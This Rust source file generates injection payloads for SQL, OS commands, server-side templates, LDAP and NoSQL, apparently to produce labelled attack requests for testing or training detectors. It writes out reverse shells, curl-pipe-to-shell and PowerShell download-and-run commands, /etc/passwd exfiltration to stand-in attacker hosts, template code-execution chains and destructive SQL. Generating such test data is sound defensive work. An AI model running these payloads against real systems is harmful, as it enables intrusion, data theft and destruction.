//! Grammars of the injection families that break out of a query language or shell: SQL, OS
//! commands, server-side templates, LDAP filters and NoSQL operators. Each payload is a product
//! of independent choices (breakout × technique × function × terminator × spacing), so a few
//! dozen table rows yield thousands of distinct strings.

use rand::Rng;

use super::{attacker_host, attacker_ip, keep_prefix, Built, SlotContext};
use crate::draft::{Body, SlotKind, SlotRef, Value};
use crate::normal::normal_draft;
use crate::vocab::{self as v, chance, pick, weighted, Rng8};

// ---- SQL injection ----------------------------------------------------------------------------

const SQL_QUOTED_BREAKOUTS: &[&str] = &["'", "'", "'", "\"", "')", "\")", "'))", "`", "%27", "';"];
const SQL_NUMERIC_BREAKOUTS: &[&str] = &["", "", "", ")", "))", "'"];
const SQL_OPERATORS: &[&str] = &["OR", "OR", "AND", "||", "&&", "XOR", "or", "oR"];
const SQL_COMMENTS: &[&str] = &[
    "-- ", "--", "-- -", "#", "/*", "--+", ";--", "-- x", "%23", ";", "",
];
const SQL_TABLES: &[&str] = &[
    "users",
    "information_schema.tables",
    "information_schema.columns",
    "mysql.user",
    "pg_catalog.pg_tables",
    "sqlite_master",
    "dual",
    "sys.objects",
    "all_tables",
    "admin",
    "accounts",
    "credit_cards",
    "information_schema.schemata",
    "pg_shadow",
    "customers",
    "sysobjects",
    "master..sysdatabases",
    "v$version",
];
const SQL_INFO: &[&str] = &[
    "@@version",
    "version()",
    "user()",
    "current_user",
    "database()",
    "system_user",
    "@@hostname",
    "@@datadir",
    "sqlite_version()",
    "banner",
    "schema_name",
    "table_name",
    "column_name",
    "concat(username,0x3a,password)",
    "group_concat(table_name)",
    "string_agg(usename,',')",
    "concat_ws(0x3a,user,password)",
    "load_file('/etc/passwd')",
    "password",
    "email",
    "card_number",
    "CHAR(113,118,122,106,113)",
    "db_name()",
    "@@servername",
];
const SQL_SUBQUERIES: &[&str] = &[
    "SELECT version()",
    "SELECT user()",
    "SELECT @@version",
    "SELECT database()",
    "SELECT password FROM users LIMIT 1",
    "SELECT table_name FROM information_schema.tables LIMIT 1",
    "SELECT banner FROM v$version WHERE rownum=1",
    "SELECT current_user",
    "SELECT name FROM sqlite_master WHERE type='table'",
    "SELECT TOP 1 name FROM sysobjects",
    "SELECT group_concat(username) FROM users",
    "SELECT usename FROM pg_user LIMIT 1",
];

fn sql_tautology(rng: &mut Rng8) -> String {
    let a: u32 = rng.gen_range(0..100);
    let b: u32 = rng.gen_range(0..100);
    let w = sql_word(rng);
    match rng.gen_range(0..12) {
        0 | 1 => format!("{a}={a}"),
        2 => format!("'{w}'='{w}'"),
        3 => format!("{a}<{}", a + 1 + b),
        4 => format!("{a} LIKE {a}"),
        5 => format!("'{w}' LIKE '{}%'", &w[..1]),
        6 => "TRUE".to_string(),
        7 => format!("{a} BETWEEN {} AND {}", a.saturating_sub(1), a + 1),
        8 => format!("0x{:x}=0x{:x}", a + 16, a + 16),
        9 => format!("{a}+{b}={}", a + b),
        10 => format!("{a} IN ({a},{b})"),
        _ => "NOT FALSE".to_string(),
    }
}

fn sql_word(rng: &mut Rng8) -> String {
    pick(
        rng,
        &[
            "a", "x", "1", "abc", "foo", "test", "zz", "qwe", "admin", "ok",
        ],
    )
    .to_string()
}

fn sql_union(rng: &mut Rng8) -> String {
    let columns = rng.gen_range(1..=9);
    let interesting = rng.gen_range(0..columns);
    let filler_nulls = chance(rng, 0.6);
    let cols: Vec<String> = (0..columns)
        .map(|i| {
            if i == interesting {
                pick(rng, SQL_INFO).to_string()
            } else if filler_nulls {
                "NULL".to_string()
            } else {
                (i + 1).to_string()
            }
        })
        .collect();
    let all = if chance(rng, 0.35) { " ALL" } else { "" };
    let mut out = format!("UNION{all} SELECT {}", cols.join(","));
    if chance(rng, 0.55) {
        out.push_str(&format!(" FROM {}", pick(rng, SQL_TABLES)));
        match rng.gen_range(0..6) {
            0 => out.push_str(" WHERE table_schema=database()"),
            1 => out.push_str(&format!(
                " WHERE table_name='{}'",
                pick(rng, &["users", "accounts", "cards"])
            )),
            2 => out.push_str(&format!(" LIMIT {},1", rng.gen_range(0..20))),
            3 => out.push_str(" WHERE rownum=1"),
            _ => {}
        }
    }
    out
}

fn sql_stacked(rng: &mut Rng8) -> String {
    let t = *pick(
        rng,
        &[
            "users",
            "accounts",
            "transactions",
            "sessions",
            "logs",
            "orders",
        ],
    );
    let w = sql_word(rng);
    let host = attacker_host(rng);
    let n = rng.gen_range(2..30);
    match rng.gen_range(0..12) {
        0 => format!("DROP TABLE {t}"),
        1 => format!("DELETE FROM {t}"),
        2 => format!(
            "UPDATE users SET role='admin' WHERE username='{}'",
            v::username(rng).replace('\'', "")
        ),
        3 => format!("INSERT INTO users(username,password) VALUES('{w}','{w}{n}')"),
        4 => format!(
            "EXEC xp_cmdshell('{}')",
            pick(rng, &["whoami", "dir c:\\", "ipconfig", "net user"])
        ),
        5 => format!("EXEC master..xp_dirtree '\\\\{host}\\{w}'"),
        6 => "SHUTDOWN".to_string(),
        7 => format!("TRUNCATE TABLE {t}"),
        8 => format!("COPY (SELECT '') TO PROGRAM 'nslookup {host}'"),
        9 => format!("SELECT pg_sleep({n})"),
        10 => {
            format!("DECLARE @q varchar(99);SET @q='\\\\{host}\\{w}';EXEC master.dbo.xp_dirtree @q")
        }
        _ => format!("CREATE USER {w}{n} IDENTIFIED BY '{w}'"),
    }
}

fn sql_time(rng: &mut Rng8) -> String {
    let n = rng.gen_range(2..16);
    let w = sql_word(rng);
    match rng.gen_range(0..10) {
        0 | 1 => format!("SLEEP({n})"),
        2 => format!("1=(SELECT 1 FROM PG_SLEEP({n}))"),
        3 => format!("BENCHMARK({n}000000,MD5('{w}'))"),
        4 => format!("(SELECT * FROM (SELECT(SLEEP({n}))){w})"),
        5 => format!("IF(1=1,SLEEP({n}),0)"),
        6 => format!("{n}=DBMS_PIPE.RECEIVE_MESSAGE(('{w}'),{n})"),
        7 => format!("RANDOMBLOB({n}00000000)"),
        8 => format!("(SELECT {n} FROM (SELECT SLEEP({n}))x)={n}"),
        _ => format!("1=(CASE WHEN (1=1) THEN SLEEP({n}) ELSE 0 END)"),
    }
}

fn sql_error(rng: &mut Rng8) -> String {
    let q = *pick(rng, SQL_SUBQUERIES);
    let n = rng.gen_range(1..9999);
    match rng.gen_range(0..8) {
        0 => format!("extractvalue({n},concat(0x7e,({q})))"),
        1 => format!("updatexml({n},concat(0x7e,({q}),0x7e),{n})"),
        2 => format!("{n}=CAST(({q}) AS int)"),
        3 => format!("{n}=CONVERT(int,({q}))"),
        4 => format!("exp(~(SELECT * FROM ({q})x))"),
        5 => format!(
            "(SELECT 1 FROM (SELECT COUNT(*),CONCAT(({q}),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"
        ),
        6 => format!("GTID_SUBSET(CONCAT(0x7e,({q})),{n})"),
        _ => format!("{n}=ctxsys.drithsx.sn({n},({q}))"),
    }
}

fn sql_blind(rng: &mut Rng8) -> String {
    let q = *pick(rng, SQL_SUBQUERIES);
    let i = rng.gen_range(1..33);
    let n = rng.gen_range(32..127);
    let c = char::from(rng.gen_range(b'a'..=b'z'));
    match rng.gen_range(0..6) {
        0 => format!("SUBSTRING(({q}),{i},1)='{c}'"),
        1 => format!("ASCII(SUBSTR(({q}),{i},1))>{n}"),
        2 => format!("LENGTH(({q}))>{i}"),
        3 => format!("(SELECT COUNT(*) FROM {})>{i}", pick(rng, SQL_TABLES)),
        4 => format!("ORD(MID(({q}),{i},1))>{n}"),
        _ => format!("EXISTS(SELECT * FROM {})", pick(rng, SQL_TABLES)),
    }
}

/// SQL injection: tautologies, UNION, stacked queries, time-based, error-based, boolean-blind,
/// ORDER BY probes and login bypasses, each with a breakout and terminator.
pub(crate) fn sqli(rng: &mut Rng8, slot: &SlotContext) -> String {
    let numeric = matches!(slot.kind, SlotKind::Id | SlotKind::Amount)
        && slot.original.parse::<f64>().is_ok();
    let breakout = if numeric {
        *pick(rng, SQL_NUMERIC_BREAKOUTS)
    } else {
        *pick(rng, SQL_QUOTED_BREAKOUTS)
    };
    let quoted = breakout.contains('\'') || breakout.contains('"') || breakout.contains("%27");
    let mut comment = *pick(rng, SQL_COMMENTS);
    if quoted && comment.is_empty() {
        comment = "-- ";
    }
    let prefix = keep_prefix(rng, slot, 0.55);
    let op = *pick(rng, SQL_OPERATORS);
    let technique: &[(u32, u8)] = if matches!(slot.kind, SlotKind::Name | SlotKind::Secret) {
        &[
            (20, 0),
            (14, 1),
            (6, 2),
            (14, 3),
            (8, 4),
            (10, 5),
            (3, 6),
            (14, 7),
            (6, 8),
        ]
    } else if slot.kind == SlotKind::Choice
        && matches!(slot.name.as_str(), "sort" | "fields" | "include")
    {
        &[
            (10, 0),
            (10, 1),
            (4, 2),
            (12, 3),
            (8, 4),
            (8, 5),
            (8, 6),
            (12, 9),
        ]
    } else {
        &[
            (20, 0),
            (20, 1),
            (8, 2),
            (14, 3),
            (10, 4),
            (12, 5),
            (6, 6),
            (8, 8),
        ]
    };
    let sp = if chance(rng, 0.85) { " " } else { "" };
    let body = match *weighted(rng, technique) {
        0 => format!("{prefix}{breakout}{sp}{op} {}{comment}", sql_tautology(rng)),
        1 => {
            let prefix = if prefix.is_empty() || chance(rng, 0.3) {
                pick(rng, &["-1", "0", "", "999999", "-9999"]).to_string()
            } else {
                prefix
            };
            format!("{prefix}{breakout} {}{comment}", sql_union(rng))
        }
        2 => format!("{prefix}{breakout}; {}{comment}", sql_stacked(rng)),
        3 => {
            if chance(rng, 0.2) {
                let n = rng.gen_range(2..16);
                format!("{prefix}{breakout}; WAITFOR DELAY '0:0:{n}'{comment}")
            } else {
                format!("{prefix}{breakout}{sp}{op} {}{comment}", sql_time(rng))
            }
        }
        4 => format!("{prefix}{breakout} AND {}{comment}", sql_error(rng)),
        5 => format!("{prefix}{breakout} AND {}{comment}", sql_blind(rng)),
        6 => {
            let n = rng.gen_range(1..30);
            if chance(rng, 0.7) {
                format!("{prefix}{breakout} ORDER BY {n}{comment}")
            } else {
                format!("{prefix}{breakout} GROUP BY {n} HAVING 1=1{comment}")
            }
        }
        7 => {
            let user = pick(rng, &["admin", "administrator", "root", "sa", "test"]).to_string();
            let user = if slot.kind == SlotKind::Name && chance(rng, 0.4) {
                slot.original.clone()
            } else {
                user
            };
            match rng.gen_range(0..5) {
                0 => format!("{user}'{comment}"),
                1 => format!("{user}' OR '1'='1"),
                2 => format!("{user}'/*"),
                3 => "' OR ''='".to_string(),
                _ => format!("{user}' OR 1=1 LIMIT 1{comment}"),
            }
        }
        8 => {
            // Quote-balanced tautology: the application's own closing quote completes it.
            let q = if breakout.starts_with('"') { "\"" } else { "'" };
            let w = sql_word(rng);
            format!("{prefix}{q} {op} {q}{w}{q}={q}{w}")
        }
        _ => {
            // ORDER BY / sort-parameter injection.
            let n = rng.gen_range(2..12);
            match rng.gen_range(0..4) {
                0 => "(CASE WHEN (1=1) THEN name ELSE price END)".to_string(),
                1 => format!("IF(1=1,name,price),(SELECT SLEEP({n}))"),
                2 => format!("{prefix},(SELECT {n} FROM DUAL WHERE 1=1 AND SLEEP({n}))"),
                _ => format!("{prefix} ASC,extractvalue(1,concat(0x7e,version()))"),
            }
        }
    };
    if chance(rng, 0.3) {
        body.to_lowercase()
    } else {
        body
    }
}

// ---- OS command injection ---------------------------------------------------------------------

fn unix_command(rng: &mut Rng8) -> String {
    let host = attacker_host(rng);
    let ip = attacker_ip(rng);
    let port = *pick(rng, &[4444, 1337, 9001, 8080, 443, 53, 31337, 6666]);
    let len = rng.gen_range(3..8);
    let f = v::hex(rng, len);
    let n = rng.gen_range(2..30);
    match rng.gen_range(0..28) {
        0 | 1 => "id".to_string(),
        2 | 3 => "whoami".to_string(),
        4 => "uname -a".to_string(),
        5 | 6 => "cat /etc/passwd".to_string(),
        7 => "cat /etc/shadow".to_string(),
        8 => pick(
            rng,
            &[
                "ls -la",
                "ls -la /",
                "ls /var/www",
                "pwd",
                "hostname",
                "ps aux",
                "env",
            ],
        )
        .to_string(),
        9 => format!("ping -c {n} {ip}"),
        10 => format!("nc -e /bin/sh {ip} {port}"),
        11 => format!("nc {host} {port} -e /bin/bash"),
        12 => format!("wget http://{host}/{f}.sh -O /tmp/{f}"),
        13 => format!("curl http://{host}/{f}.sh|sh"),
        14 => format!("curl -d @/etc/passwd http://{host}/"),
        15 => format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
        16 => format!("sleep {n}"),
        17 => format!("nslookup {}.{host}", v::hex(rng, 6)),
        18 => format!("echo {}", v::hex(rng, 10)),
        19 => "/bin/sh -c id".to_string(),
        20 => "python3 -c 'import os;os.system(\"id\")'".to_string(),
        21 => "perl -e 'print `id`'".to_string(),
        22 => "php -r 'system(\"id\");'".to_string(),
        23 => format!("rm -rf /tmp/{f}"),
        24 => format!("chmod +x /tmp/{f};/tmp/{f}"),
        25 => "cat /proc/self/environ".to_string(),
        26 => format!("busybox telnetd -l /bin/sh -p {port}"),
        _ => "find / -perm -4000 -type f".to_string(),
    }
}

fn windows_command(rng: &mut Rng8) -> String {
    let host = attacker_host(rng);
    let ip = attacker_ip(rng);
    let f = v::hex(rng, 5);
    match rng.gen_range(0..14) {
        0 | 1 => "whoami".to_string(),
        2 => "whoami /all".to_string(),
        3 => "dir".to_string(),
        4 => "dir C:\\".to_string(),
        5 => "type C:\\Windows\\win.ini".to_string(),
        6 => "ipconfig /all".to_string(),
        7 => pick(rng, &["net user", "net localgroup administrators", "systeminfo", "tasklist", "ver"]).to_string(),
        8 => format!("ping -n {} {ip}", rng.gen_range(2..30)),
        9 => {
            let script = format!("IEX(New-Object Net.WebClient).DownloadString('http://{host}/{f}.ps1')");
            let utf16: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
            use base64::Engine;
            format!("powershell -enc {}", base64::engine::general_purpose::STANDARD.encode(utf16))
        }
        10 => format!("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{f}.ps1')\""),
        11 => format!("certutil -urlcache -split -f http://{host}/{f}.exe %TEMP%\\{f}.exe"),
        12 => format!("timeout /t {}", rng.gen_range(2..30)),
        _ => format!("nslookup {}.{host}", v::hex(rng, 6)),
    }
}

/// OS command injection: a separator or substitution around a Unix or Windows command.
pub(crate) fn cmdi(rng: &mut Rng8, slot: &SlotContext) -> String {
    let prefix = keep_prefix(rng, slot, 0.6);
    let windows = chance(rng, 0.25);
    let cmd = if windows {
        windows_command(rng)
    } else {
        unix_command(rng)
    };
    let form = rng.gen_range(0..10);
    if windows {
        let sep = *pick(rng, &["&", "|", "&&", "||", "%0a", " & ", " | "]);
        let suffix = *pick(rng, &["", "", "&", " &", " | more"]);
        return format!("{prefix}{sep}{cmd}{suffix}");
    }
    match form {
        0 => format!("{prefix}$({cmd})"),
        1 => format!("{prefix}`{cmd}`"),
        2 => format!("{prefix}';{cmd};'"),
        3 => format!("{prefix}\";{cmd};\""),
        4 => format!("{prefix}|{cmd}|"),
        _ => {
            let sep = *pick(
                rng,
                &[
                    ";", "; ", "|", "| ", "||", "&&", "&", "%0a", "%0d%0a", " ; ", " && ", " || ",
                ],
            );
            let suffix = *pick(
                rng,
                &[
                    "",
                    "",
                    "",
                    ";",
                    " #",
                    "#",
                    "&",
                    " 2>&1",
                    " > /dev/null",
                    ";true",
                ],
            );
            format!("{prefix}{sep}{cmd}{suffix}")
        }
    }
}

// ---- server-side template injection -----------------------------------------------------------

const TEMPLATE_DELIMITERS: &[(&str, &str)] = &[
    ("{{", "}}"),
    ("{{", "}}"),
    ("{{ ", " }}"),
    ("${", "}"),
    ("${", "}"),
    ("#{", "}"),
    ("<%=", "%>"),
    ("<%= ", " %>"),
    ("{{=", "}}"),
    ("*{", "}"),
    ("@(", ")"),
    ("${{", "}}"),
    ("[[", "]]"),
    ("{", "}"),
];

fn template_expression(rng: &mut Rng8) -> String {
    let a = rng.gen_range(2..999);
    let b = rng.gen_range(2..999);
    let cmd = *pick(
        rng,
        &[
            "id",
            "whoami",
            "uname -a",
            "cat /etc/passwd",
            "ls",
            "hostname",
            "env",
        ],
    );
    match rng.gen_range(0..14) {
        0..=3 => format!("{a}*{b}"),
        4 => format!("{a}+{b}"),
        5 => format!("{a}*'{b}'"),
        6 => pick(
            rng,
            &[
                "config", "config.items()", "self", "settings.SECRET_KEY", "request.environ",
                "self.__dict__", "g", "session", "app.secret_key", "request.application.__globals__",
            ],
        )
        .to_string(),
        7 | 8 => {
            let root = *pick(
                rng,
                &["''", "\"\"", "()", "[]", "request", "config", "self", "lipsum", "cycler", "joiner", "namespace", "url_for", "get_flashed_messages"],
            );
            let chain = *pick(
                rng,
                &[
                    ".__class__.__mro__[1].__subclasses__()",
                    ".__class__.__base__.__subclasses__()",
                    ".__init__.__globals__",
                    ".__class__.__init__.__globals__['os']",
                    ".__globals__.__builtins__",
                    ".__class__.__mro__[2].__subclasses__()",
                ],
            );
            let sink = match rng.gen_range(0..5) {
                0 => String::new(),
                1 => format!("[{}]('{cmd}',shell=True,stdout=-1).communicate()", rng.gen_range(40..500)),
                2 => format!(".os.popen('{cmd}').read()"),
                3 => format!("['__import__']('os').popen('{cmd}').read()"),
                _ => format!("['eval'](\"__import__('os').popen('{cmd}').read()\")"),
            };
            format!("{root}{chain}{sink}")
        }
        9 => format!("T(java.lang.Runtime).getRuntime().exec('{cmd}')"),
        10 => format!("\"\".getClass().forName('java.lang.Runtime').getRuntime().exec('{cmd}')"),
        11 => format!("system('{cmd}')"),
        12 => format!("IO.popen('{cmd}').readlines()"),
        _ => format!("range.constructor(\"return global.process.mainModule.require('child_process').execSync('{cmd}')\")()"),
    }
}

fn template_directive(rng: &mut Rng8) -> String {
    let cmd = *pick(
        rng,
        &["id", "whoami", "uname -a", "cat /etc/passwd", "hostname"],
    );
    match rng.gen_range(0..7) {
        0 => format!("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{cmd}\")}}"),
        1 => format!(
            "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{cmd}\")"
        ),
        2 => format!("{{{{['{cmd}']|filter('system')}}}}"),
        3 => format!("{{{{_self.env.registerUndefinedFilterCallback(\"exec\")}}}}{{{{_self.env.getFilter(\"{cmd}\")}}}}"),
        4 => format!("{{php}}echo `{cmd}`;{{/php}}"),
        5 => format!("{{% import os %}}{{{{os.popen('{cmd}').read()}}}}"),
        _ => format!(
            "{{% for x in ().__class__.__base__.__subclasses__() %}}{{% if \"warning\" in x.__name__ %}}{{{{x()._module.__builtins__['__import__']('os').popen(\"{cmd}\").read()}}}}{{%endif%}}{{% endfor %}}"
        ),
    }
}

/// Server-side template injection: arithmetic probes, object traversal and engine directives.
pub(crate) fn ssti(rng: &mut Rng8, slot: &SlotContext) -> String {
    let prefix = keep_prefix(rng, slot, 0.35);
    let sep = if prefix.is_empty() {
        ""
    } else {
        *pick(rng, &["", " ", "-"])
    };
    let core = if chance(rng, 0.18) {
        template_directive(rng)
    } else {
        let (open, close) = *pick(rng, TEMPLATE_DELIMITERS);
        format!("{open}{}{close}", template_expression(rng))
    };
    let suffix = if chance(rng, 0.1) {
        pick(rng, &["'", "\"", "}}", "-->"]).to_string()
    } else {
        String::new()
    };
    format!("{prefix}{sep}{core}{suffix}")
}

// ---- LDAP injection ---------------------------------------------------------------------------

const LDAP_ATTRIBUTES: &[&str] = &[
    "uid",
    "cn",
    "mail",
    "objectClass",
    "userPassword",
    "sn",
    "givenName",
    "memberOf",
    "description",
    "sAMAccountName",
    "telephoneNumber",
    "homeDirectory",
];

/// LDAP filter injection: wildcards, closing parentheses and injected `(|...)`/`(&...)` terms.
pub(crate) fn ldap(rng: &mut Rng8, slot: &SlotContext) -> String {
    let who = match rng.gen_range(0..6) {
        0 | 1 if !slot.original.is_empty() && slot.kind == SlotKind::Name => slot.original.clone(),
        2 => pick(rng, &["admin", "administrator", "root", "manager"]).to_string(),
        3 => "*".to_string(),
        4 => String::new(),
        _ => v::username(rng),
    };
    let attr = *pick(rng, LDAP_ATTRIBUTES);
    let attr2 = *pick(rng, LDAP_ATTRIBUTES);
    let close = ")".repeat(rng.gen_range(1..=3));
    let value = *pick(rng, &["*", "*", "a*", "admin*", "*)", "*@*"]);
    let core = match rng.gen_range(0..11) {
        0 => "*".to_string(),
        1 => format!("{who}*"),
        2 => format!("{who}{close}({attr}={value}"),
        3 => format!("{who}{close}(|({attr}={value}"),
        4 => format!("{who}{close}(&)"),
        5 => format!("{who}{close}(!({attr}={value}))"),
        6 => format!("*{close}({attr}=*))(|({attr2}=*"),
        7 => format!("{who}*{close}((|{attr}=*)"),
        8 => format!("{who}{close}(|(objectClass=*))"),
        9 => format!(
            "{who}{close}({attr}={}*)",
            pick(rng, &["a", "b", "p", "s", "1"])
        ),
        _ => format!("*{close}(|({attr}=*)"),
    };
    let tail = *pick(rng, &["", "", "", "%00", "\\00", "(|(uid=*", "(&"]);
    format!("{core}{tail}")
}

// ---- NoSQL injection --------------------------------------------------------------------------

fn nosql_operator_object(rng: &mut Rng8) -> String {
    let w = v::hex(rng, 4);
    let n = rng.gen_range(1..100);
    match rng.gen_range(0..13) {
        0 | 1 => r#"{"$ne":null}"#.to_string(),
        2 => r#"{"$ne":""}"#.to_string(),
        3 => format!(r#"{{"$ne":"{w}"}}"#),
        4 => r#"{"$gt":""}"#.to_string(),
        5 => format!(r#"{{"$gte":{}}}"#, n - 1),
        6 => r#"{"$regex":".*"}"#.to_string(),
        7 => format!(
            r#"{{"$regex":"^{}","$options":"i"}}"#,
            char::from(rng.gen_range(b'a'..=b'z'))
        ),
        8 => format!(r#"{{"$in":["admin","root","{w}"]}}"#),
        9 => r#"{"$nin":[""]}"#.to_string(),
        10 => r#"{"$exists":true}"#.to_string(),
        11 => format!(r#"{{"$where":"sleep({n}00)"}}"#),
        _ => r#"{"$expr":{"$eq":[1,1]}}"#.to_string(),
    }
}

fn nosql_key_operator(rng: &mut Rng8) -> (&'static str, String) {
    let op = *pick(
        rng,
        &[
            "$ne", "$ne", "$gt", "$regex", "$nin", "$exists", "$in][", "$gte", "$where",
        ],
    );
    let value = match op {
        "$regex" => pick(rng, &[".*", "^a", "^adm", ".{8,}"]).to_string(),
        "$exists" => "true".to_string(),
        "$where" => pick(rng, &["1", "sleep(500)", "this.password.length>0"]).to_string(),
        "$gt" | "$gte" => String::new(),
        _ => pick(rng, &["", "x", "1", "null", "admin"]).to_string(),
    };
    (op, value)
}

fn nosql_string(rng: &mut Rng8, prefix: &str) -> String {
    let n = rng.gen_range(1..50);
    let field = *pick(rng, &["password", "role", "username", "token", "isAdmin"]);
    match rng.gen_range(0..9) {
        0 => format!("{prefix}' || '1'=='1"),
        1 => format!("{prefix}'; return true; var x='"),
        2 => format!("{prefix}'; while(true){{}}; '"),
        3 => format!("{prefix}' && this.{field}.match(/.*/)//"),
        4 => r#"{"$gt":""}"#.to_string(),
        5 => format!("{prefix}'; sleep({n}000); '"),
        6 => format!("{prefix}'||this.role=='admin"),
        7 => format!("true, $where: '{n} == {n}'"),
        _ => format!("{prefix}\"; return db.getCollectionNames(); var y=\""),
    }
}

/// NoSQL injection: operator objects in JSON bodies, `name[$op]=` parameter keys, or JavaScript
/// breakouts in string values.
pub(crate) fn nosqli(rng: &mut Rng8) -> Built {
    let json_wanted = chance(rng, 0.45);
    for _ in 0..40 {
        let mut draft = normal_draft(rng);
        let slots: Vec<(SlotRef, SlotKind)> = draft
            .slots()
            .into_iter()
            .filter(|(at, kind)| {
                !matches!(at, SlotRef::Header(_) | SlotRef::Path(_))
                    && matches!(
                        kind,
                        SlotKind::Name
                            | SlotKind::Secret
                            | SlotKind::Id
                            | SlotKind::Text
                            | SlotKind::Email
                            | SlotKind::Choice
                    )
            })
            .collect();
        let json: Vec<_> = slots
            .iter()
            .filter(|(at, _)| matches!(at, SlotRef::Json(_)))
            .copied()
            .collect();
        let params: Vec<_> = slots
            .iter()
            .filter(|(at, _)| !matches!(at, SlotRef::Json(_)))
            .copied()
            .collect();
        if json_wanted && !json.is_empty() {
            let (at, _) = *pick(rng, &json);
            let payload = if chance(rng, 0.8) {
                let object = nosql_operator_object(rng);
                draft.set_json_raw(at, object.clone());
                object
            } else {
                let prefix = draft.slot_text(at).to_string();
                let text = nosql_string(rng, &prefix);
                draft.set_slot(at, Value::Plain(text.clone()));
                text
            };
            return Built { draft, payload };
        }
        if !json_wanted && !params.is_empty() {
            let (at, _) = *pick(rng, &params);
            if chance(rng, 0.65) {
                let name = draft.slot_name(at).to_string();
                let (op, value) = nosql_key_operator(rng);
                let key = format!("{name}[{op}]");
                draft.rename_slot(at, key.clone());
                draft.set_slot(at, Value::Plain(value.clone()));
                // Login forms get the operator on both fields, as real bypasses do.
                if let Body::Form(fields) = &mut draft.body {
                    if let Some(pw) = fields.iter_mut().find(|f| f.name == "password") {
                        if chance(rng, 0.7) {
                            pw.name = format!("password[{op}]");
                            pw.value = Value::Plain(value.clone());
                        }
                    }
                }
                return Built {
                    draft,
                    payload: format!("{key}={value}"),
                };
            }
            let prefix = if chance(rng, 0.5) {
                draft.slot_text(at).to_string()
            } else {
                String::new()
            };
            let text = nosql_string(rng, &prefix);
            draft.set_slot(at, Value::Plain(text.clone()));
            return Built {
                draft,
                payload: text,
            };
        }
    }
    // Unreachable in practice (login forms are common); a fixed login keeps this total.
    let mut draft = crate::normal::dress(
        rng,
        crate::draft::Draft::new("POST", "bank.example.com", "/login/auth")
            .json_raw("username", r#"{"$ne":null}"#, None)
            .json_raw("password", r#"{"$ne":null}"#, None),
    );
    draft.json_compact = true;
    Built {
        draft,
        payload: r#"{"$ne":null}"#.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn slot(kind: SlotKind, original: &str) -> SlotContext {
        SlotContext {
            kind,
            original: original.into(),
            name: "q".into(),
            in_path: false,
        }
    }

    #[test]
    fn sqli_yields_many_distinct_payloads_with_sql_syntax() {
        let mut rng = Rng8::seed_from_u64(21);
        let mut seen = std::collections::HashSet::new();
        for i in 0..2000 {
            let s = if i % 2 == 0 {
                slot(SlotKind::Id, "1042")
            } else {
                slot(SlotKind::Name, "jsmith")
            };
            let p = sqli(&mut rng, &s);
            let lower = p.to_lowercase();
            assert!(
                [
                    "select",
                    "sleep",
                    "or ",
                    "and ",
                    "||",
                    "&&",
                    "xor",
                    "--",
                    "#",
                    "order by",
                    "group by",
                    "drop",
                    "delete",
                    "update",
                    "exec",
                    "waitfor",
                    "'",
                    "case when",
                    "if(",
                    "truncate",
                    "shutdown",
                    "insert",
                    "create",
                    "copy"
                ]
                .iter()
                .any(|m| lower.contains(m)),
                "{p}"
            );
            seen.insert(p);
        }
        assert!(seen.len() > 1500, "{} distinct", seen.len());
    }

    #[test]
    fn cmdi_payloads_contain_a_separator_or_substitution() {
        let mut rng = Rng8::seed_from_u64(22);
        for _ in 0..1000 {
            let p = cmdi(&mut rng, &slot(SlotKind::Text, "8.8.8.8"));
            assert!(
                [";", "|", "&", "`", "$(", "%0a"]
                    .iter()
                    .any(|s| p.contains(s)),
                "{p}"
            );
        }
    }

    #[test]
    fn nosqli_places_operators_in_keys_or_json() {
        let mut rng = Rng8::seed_from_u64(23);
        for _ in 0..300 {
            let built = nosqli(&mut rng);
            let r = built.draft.render();
            let all = format!("{}{}", r.url, r.body);
            assert!(
                ["$", "%24", "||", "%7C%7C", "'", "%27", "return", "\\\""]
                    .iter()
                    .any(|m| all.contains(m)),
                "{all}"
            );
        }
    }
}
